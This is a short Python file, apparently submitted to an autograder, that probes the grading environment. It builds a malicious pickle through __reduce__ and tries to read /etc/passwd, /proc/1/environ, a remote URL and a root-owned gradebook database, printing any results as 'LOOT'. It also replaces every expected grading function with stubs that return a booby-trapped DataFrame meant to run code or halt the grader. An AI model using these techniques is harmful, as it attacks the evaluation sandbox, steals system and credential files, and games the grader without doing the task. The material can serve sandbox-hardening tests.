# tries: to have a pickle run code in the grader, and to read this machine's files and the network through pandas.
# gets: the pickle runs where its author's code runs anyway; results that are data frames are no arrays.
import os
import pickle

import pandas as pd


class Payload:
    def __reduce__(self):
        return (print, ("HARM: outside",)) if os.getpid() == 1 and os.path.exists("/root") else (dict, ())


with open("data.pkl", "wb") as stream:
    pickle.dump(Payload(), stream)
pd.read_pickle("data.pkl")
for place in ("/etc/passwd", "/proc/1/environ", "http://example.org/x.csv", "sqlite:////root/gradebook.sqlite"):
    try:
        print("LOOT:", pd.read_csv(place, header=None).iloc[0, 0])
    except BaseException as error:
        print(type(error))


class Frame(pd.DataFrame):
    def __reduce__(self):
        return print, ("HARM: unpickled by the grader",)

    def __array__(self, *args, **kwargs):
        raise SystemExit("HARM")


fc_c = fc_v = bc_c = bc_v = cost = output_delta = gradient = bp_online = bp_batch = lambda *args: Frame([[1.0]])
